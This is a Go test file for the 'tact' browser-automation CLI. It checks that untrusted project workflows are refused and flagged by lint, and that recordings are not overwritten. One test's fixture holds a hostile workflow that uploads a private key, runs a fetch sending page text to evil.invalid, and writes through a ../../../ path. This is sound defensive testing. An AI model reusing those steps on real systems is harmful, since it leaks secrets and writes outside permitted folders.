package cli_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A cloned repository's workflow (.tact/workflows) that shadows the
// user's own, uploads a key from outside its folder, evals a fetch and
// writes a file out of its tree: replay refuses it (UNTRUSTED, exit 13)
// before any step, listing all of that and the command that trusts it;
// lint lists the same. A trusted one runs, takes its relative paths from
// its folder, and needs trusting again once edited.
func TestProjectWorkflowTrust(t *testing.T) {
	t.Parallel()
	s := env.Pooled(t)
	wfdir := filepath.Join(t.TempDir(), ".tact", "workflows")
	if err := os.MkdirAll(wfdir, 0o755); err != nil {
		t.Fatal(err)
	}
	key := filepath.Join(t.TempDir(), "id_rsa")
	os.WriteFile(key, []byte("PRIVATE KEY"), 0o600)
	own := filepath.Join(os.Getenv("TACT_HOME"), "workflows", "wftrust-login.json")
	os.MkdirAll(filepath.Dir(own), 0o700)
	os.WriteFile(own, []byte(`{"version":2,"steps":[{"command":"open","args":{"url":"`+page("hello.html")+`"}}]}`), 0o600)
	hostile := filepath.Join(wfdir, "wftrust-login.json")
	os.WriteFile(hostile, []byte(`{"version":2,"steps":[
  {"command":"open","args":{"url":"`+page("upload.html")+`"}},
  {"command":"upload","target":{"locators":["label=Document"]},"args":{"files":"`+key+`"}},
  {"command":"eval","args":{"expr":"fetch('http://evil.invalid/?k='+document.getElementById('content').textContent)"}},
  {"command":"screenshot","args":{"file":"../../../victim.png"}}
]}`), 0o644)

	r := tact(t, s, "replay", hostile)
	if r.code != 13 || !strings.Contains(r.err, "not trusted, so it did not run") {
		t.Fatalf("untrusted project workflow: exit %d\n%s\n%s", r.code, r.out, r.err)
	}
	first, _, _ := strings.Cut(r.out, "\n")
	if want := "replay wftrust-login: " + hostile + " (project scope, not trusted); your own wftrust-login (" + own + ") is not the one run"; !strings.HasPrefix(first, want) {
		t.Errorf("first line %q, want it to start %q", first, want)
	}
	for _, want := range []string{
		"step 2 uploads the file " + key + " (outside the workflow's folder)",
		"step 3 runs JavaScript in the page: fetch('http://evil.invalid/",
		"step 4 writes the file ../../../victim.png (" + filepath.Clean(filepath.Join(wfdir, "../../../victim.png")) + ") (outside the workflow's folder)",
		"step 1 opens " + srvURL,
		"tact workflow trust " + hostile,
	} {
		if !strings.Contains(r.out+r.err, want) {
			t.Errorf("the refusal does not say %q:\n%s\n%s", want, r.out, r.err)
		}
	}
	if strings.Contains(r.out, "[1/") {
		t.Errorf("a step ran:\n%s", r.out)
	}
	r = tact(t, s, "workflow", "lint", hostile)
	if r.code != 0 || !strings.Contains(r.out, "uploads the file "+key) || !strings.Contains(r.out, "not trusted: replay refuses it until you run tact workflow trust") {
		t.Errorf("lint: exit %d\n%s\n%s", r.code, r.out, r.err)
	}
	if r := tact(t, s, "workflow", "trust", own); r.code != 2 {
		t.Errorf("trusting a user-scope workflow: exit %d %s", r.code, r.err)
	}

	// A benign one: trusted, it runs and uploads the file beside it.
	os.WriteFile(filepath.Join(wfdir, "data.txt"), []byte("from the folder"), 0o644)
	flow := filepath.Join(wfdir, "wftrust-upload.json")
	os.WriteFile(flow, []byte(`{"version":2,"steps":[
  {"command":"open","args":{"url":"`+page("upload.html")+`"}},
  {"command":"upload","target":{"locators":["label=Document"]},"args":{"files":"data.txt","no_snap":true}},
  {"command":"wait","args":{"condition":"text=from the folder"}},
  {"command":"read","args":{"focus":"#content","as":"content"}}
]}`), 0o644)
	if r := tact(t, s, "replay", flow); r.code != 13 {
		t.Fatalf("untrusted: exit %d\n%s\n%s", r.code, r.out, r.err)
	}
	r = tact(t, s, "workflow", "trust", flow)
	if r.code != 0 || !strings.HasPrefix(r.out, "trusted "+flow) || !strings.Contains(r.out, "uploads the file data.txt ("+filepath.Join(wfdir, "data.txt")+")\n") {
		t.Fatalf("trust: exit %d\n%s\n%s", r.code, r.out, r.err)
	}
	r = tact(t, s, "replay", flow)
	mustOK(t, r)
	if !strings.HasPrefix(r.out, "replay wftrust-upload: "+flow+" (project scope, trusted)\n") || !strings.Contains(r.out, "from the folder") {
		t.Errorf("trusted replay:\n%s", r.out)
	}
	b, _ := os.ReadFile(flow)
	os.WriteFile(flow, append(b, '\n'), 0o644)
	r = tact(t, s, "replay", flow)
	if r.code != 13 || !strings.Contains(r.out, "(project scope, changed since it was trusted)") {
		t.Errorf("edited after trust: exit %d\n%s\n%s", r.code, r.out, r.err)
	}
}

// record start and stop never replace a workflow silently: both refuse a
// taken name unless --force.
func TestRecordRefusesOverwrite(t *testing.T) {
	t.Parallel()
	s := env.Pooled(t)
	mustOK(t, tact(t, s, "record", "start", "wfforce"))
	mustOK(t, tact(t, s, "open", page("hello.html"), "--no-snap"))
	mustOK(t, tact(t, s, "record", "stop"))
	before := savedFlow(t, "wfforce")
	r := tact(t, s, "record", "start", "wfforce")
	if r.code != 2 || !strings.Contains(r.err, "already exists") || !strings.Contains(r.err, "--force") {
		t.Fatalf("record start over a taken name: exit %d %s", r.code, r.err)
	}
	// A name taken while recording: stop refuses and the recording goes on.
	mustOK(t, tact(t, s, "record", "start", "wfforce2"))
	mustOK(t, tact(t, s, "open", page("other.html"), "--no-snap"))
	path2 := filepath.Join(os.Getenv("TACT_HOME"), "workflows", "wfforce2.json")
	os.WriteFile(path2, []byte(before), 0o600)
	if r := tact(t, s, "record", "stop"); r.code != 2 || !strings.Contains(r.err, "--force") {
		t.Fatalf("record stop over a taken name: exit %d %s", r.code, r.err)
	}
	if savedFlow(t, "wfforce2") != before {
		t.Fatal("record stop replaced the workflow")
	}
	r = tact(t, s, "record", "stop", "--force")
	mustOK(t, r)
	if !strings.Contains(savedFlow(t, "wfforce2"), "other.html") {
		t.Errorf("record stop --force did not save the recording")
	}
	mustOK(t, tact(t, s, "record", "start", "wfforce", "--force"))
	mustOK(t, tact(t, s, "open", page("other.html"), "--no-snap"))
	mustOK(t, tact(t, s, "record", "stop"))
	if !strings.Contains(savedFlow(t, "wfforce"), "other.html") {
		t.Errorf("record start --force: the new recording was not saved")
	}
}
